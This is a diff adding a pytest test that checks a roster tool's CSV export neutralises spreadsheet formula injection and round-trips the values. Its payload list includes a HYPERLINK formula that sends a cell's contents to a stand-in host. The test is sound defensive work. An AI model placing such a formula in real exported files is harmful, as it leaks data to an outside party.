@@ -193,6 +193,26 @@ def test_what_was_exported_changes_nothing(roster):
         assert after[table] == before[table]
 
 
+FORMULAS = ["=1+1", "+81", "-1", "@SUM(A1)", "'=x", "''-x", "'quoted'", '=HYPERLINK("http://x/?"&A1,"こちら")']
+
+
+def test_no_cell_is_a_formula_and_each_comes_back(roster):
+    roster.start()
+    for i, text in enumerate(FORMULAS):
+        roster.tenko.sql("UPDATE person SET name = ?, employee_number = ? WHERE code = ?", text, text[:8],
+                         f"U0{i % 4 + 1}")
+        before = roster.dump()
+        path = roster.root / "users.csv"
+        roster.tenko.cli("export", "--users", path)
+        cells = [cell for row in csv.reader(io.StringIO(path.read_text("cp932"))) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        path.write_bytes(re.sub(rb"(?m)^0,", b"2,", path.read_bytes()))
+        roster.take(users=path)
+        assert roster.dump()["person"] == before["person"]
+        as_is = csv.reader(io.StringIO(roster.exported("users", "--as-is")))
+        assert text in [cell for row in as_is for cell in row]
+
+
 @pytest.mark.parametrize("encoding,end", [("cp932", "\r\n"), ("cp932", "\n"), ("utf-8", "\r\n"),
                                           ("utf-8-sig", "\r\n"), ("utf-8", "\n")])
 def test_encodings_and_line_ends_make_no_difference(roster, encoding, end):
